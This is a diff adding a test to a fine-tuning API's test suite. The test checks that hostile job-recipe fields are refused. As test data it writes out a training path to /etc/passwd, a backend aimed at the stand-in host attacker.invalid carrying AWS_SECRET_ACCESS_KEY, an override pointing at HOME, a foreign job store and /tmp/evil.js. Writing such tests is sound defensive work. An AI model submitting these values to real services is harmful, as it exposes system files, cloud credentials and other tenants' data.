@@ -380,6 +380,31 @@ describe("jobs", () => {
     expect((await acme.fineTuning.jobs.list({ limit: 100 })).data.length).toBe(before)
   })
 
+  it("refuses recipe fields that would reach the server's files, secrets or another tenant's runs", async () => {
+    const file = await upload(acme)
+    const before = (await acme.fineTuning.jobs.list({ limit: 100 })).data.length
+    const refused = async (sous: unknown, param: string) => {
+      const response = await call("/v1/fine_tuning/jobs", {
+        method: "POST",
+        tenant: "acme",
+        headers: { "content-type": "application/json" },
+        body: JSON.stringify({ model: "sous/micro-transformer", training_file: file.id, sous })
+      })
+      const error = await expectError(response, 400)
+      expect(error).toMatchObject({ param, code: "forbidden_recipe_field" })
+      return error.message
+    }
+    expect(await refused({ recipe: { kind: "supervised", data: { train: "/etc/passwd" } } }, "sous.recipe.data.train")).toContain("data.train")
+    await refused({ recipe: { kind: "supervised", backend: { kind: "tinker", baseUrl: "http://attacker.invalid", apiKeyEnv: "AWS_SECRET_ACCESS_KEY" } } }, "sous.recipe.backend.kind")
+    await refused({ set: ["backend={kind: tinker, baseUrl: http://attacker.invalid}"] }, "sous.set[0]")
+    await refused({ set: ["model.width=16", "backend.apiKeyEnv=HOME"] }, "sous.set[1]")
+    await refused({ set: [`model.from.store=${join(home, "jobs")}`] }, "sous.set[0]")
+    expect(await refused({ set: ["model={from: {store: /tmp}}"] }, "sous.set[0]")).toContain("model (it holds model.from)")
+    await refused({ set: ["checkpoint.uri=s3://bucket/x"] }, "sous.set[0]")
+    await refused({ recipe: { kind: "rl", env: { module: "/tmp/evil.js" } } }, "sous.recipe.env.module")
+    expect((await acme.fineTuning.jobs.list({ limit: 100 })).data.length).toBe(before)
+  })
+
   it("pauses and resumes a queued job, and cancels one at once", async () => {
     const file = await upload(acme)
     const job = await createShortJob(acme, file.id)
